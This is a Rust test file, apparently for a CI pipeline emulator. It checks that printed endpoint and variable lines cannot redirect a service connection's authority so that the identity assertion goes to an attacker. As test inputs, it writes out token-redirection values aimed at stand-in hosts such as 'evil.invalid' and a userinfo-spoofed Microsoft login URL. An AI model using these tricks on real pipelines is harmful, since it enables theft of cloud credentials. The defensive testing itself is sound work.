//! Printed lines that try to send the assertion to an attacker, or to use it for another identity.

use patless_emulator::agent::TaskResult;
use patless_emulator::{Emulator, Scenario};

use super::{AGENTS, Evil, assert_refused, play_behind, set_endpoint, set_variable};
use crate::job_environment::{CONNECTION, connection};

#[test]
fn a_printed_line_that_moves_the_authority_gets_no_assertion() {
    for version in AGENTS {
        for key in ["activeDirectoryAuthority", "environmentAuthorityUrl"] {
            let (emulator, evil) = (
                Emulator::start(Scenario::default()).unwrap(),
                Evil::listen(),
            );
            let id = connection(&emulator, CONNECTION).id.to_string();
            let move_to = |url: &str| {
                // The emulator's connection has the first key, which wins: the attacker takes it out of the way.
                [
                    set_endpoint(&id, "field=dataParameter;key=activeDirectoryAuthority", url),
                    set_endpoint(&id, &format!("field=dataParameter;key={key}"), url),
                ]
            };
            for url in [
                format!("https://0.0.0.0:{}/", evil.port()),
                format!("https://login.microsoftonline.com@0.0.0.0:{}/", evil.port()),
                // The emulator's own Entra, by a name that is a stranger's: there the assertion would be taken.
                format!(
                    "https://0.0.0.0:{}/",
                    emulator.authority_host().port().unwrap()
                ),
            ] {
                let played = play_behind(&emulator, version, &move_to(&url), "");
                assert_refused(&emulator, &played, "#foreign-authority");
                evil.assert_got_nothing(&url);
            }
        }
    }
}

#[test]
fn a_printed_line_that_names_a_stranger_by_its_name_gets_no_assertion() {
    let emulator = Emulator::start(Scenario::default()).unwrap();
    let id = connection(&emulator, CONNECTION).id.to_string();
    for url in [
        "https://evil.invalid/",
        "https://login.microsoftonline.com.evil.invalid/",
        "https://login.microsoftonline.com@evil.invalid/",
    ] {
        let key = "field=dataParameter;key=activeDirectoryAuthority";
        let played = play_behind(&emulator, AGENTS[0], &[set_endpoint(&id, key, url)], "");
        let error = played.first_error().unwrap();
        // Only the assertion could justify a host that is a full name: it was asked for, and went nowhere.
        assert!(error.contains("#foreign-authority"), "{error}");
        assert!(
            error.contains("evil.invalid, which is not an authority host"),
            "{error}"
        );
        let requests = emulator.requests();
        assert!(requests.iter().all(|it| !it.path.contains("oauth2")));
    }
}

#[test]
fn with_diagnosis_a_moved_authority_gets_nothing_either() {
    let (emulator, evil) = (
        Emulator::start(Scenario::default()).unwrap(),
        Evil::listen(),
    );
    let id = connection(&emulator, CONNECTION).id.to_string();
    let url = format!("https://0.0.0.0:{}/", evil.port());
    let key = "field=dataParameter;key=activeDirectoryAuthority";
    let lines = [set_endpoint(&id, key, &url)];
    let played = play_behind(&emulator, AGENTS[0], &lines, ", diagnose: true");
    assert_eq!(played.result, TaskResult::Failed, "{}", played.log);
    let error = played.first_error().unwrap();
    assert!(error.contains("#foreign-authority"), "{error}");
    evil.assert_got_nothing(&url);
}

#[test]
fn the_input_of_the_step_wins_over_a_printed_line() {
    let (emulator, evil) = (
        Emulator::start(Scenario::default()).unwrap(),
        Evil::listen(),
    );
    let id = connection(&emulator, CONNECTION).id.to_string();
    let url = format!("https://0.0.0.0:{}/", evil.port());
    let key = "field=dataParameter;key=activeDirectoryAuthority";
    let input = format!(", authorityHost: '{}common'", emulator.authority_host());
    let played = play_behind(
        &emulator,
        AGENTS[0],
        &[set_endpoint(&id, key, &url)],
        &input,
    );
    assert_eq!(played.result, TaskResult::Succeeded, "{}", played.log);
    evil.assert_got_nothing(&url);
}

#[test]
fn a_variable_in_the_place_of_what_a_task_is_given_is_refused() {
    let evil = Evil::listen();
    let url = format!("https://0.0.0.0:{}/", evil.port());
    let emulator = Emulator::start(Scenario::default()).unwrap();
    let id = connection(&emulator, CONNECTION).id;
    for name in [
        "ENDPOINT_URL_SYSTEMVSSCONNECTION".to_owned(),
        format!("endpoint.data.{id}.activeDirectoryAuthority"),
        "INPUT_AUTHORITYHOST".to_owned(),
        "input.authorityHost".to_owned(),
    ] {
        for version in AGENTS {
            let played = play_behind(&emulator, version, &[set_variable(&name, &url)], "");
            assert_refused(&emulator, &played, "takes the place of");
            evil.assert_got_nothing(&name);
        }
    }
}

#[test]
fn another_identity_in_the_connection_sends_the_assertion_to_entra_and_nowhere_else() {
    let emulator = Emulator::start(Scenario::default()).unwrap();
    let id = connection(&emulator, CONNECTION).id.to_string();
    let own_tenant = "9e2d4b60-1c7f-4a93-b5d8-6f0a3e9c7b99";
    let lines = [
        set_endpoint(&id, "field=authParameter;key=tenantid", own_tenant),
        set_endpoint(
            &id,
            "field=authParameter;key=serviceprincipalid",
            own_tenant,
        ),
    ];
    let played = play_behind(&emulator, AGENTS[0], &lines, "");
    assert_eq!(played.result, TaskResult::Failed, "{}", played.log);
    let error = played.first_error().unwrap();
    assert!(error.contains("AADSTS90002"), "{error}");
}
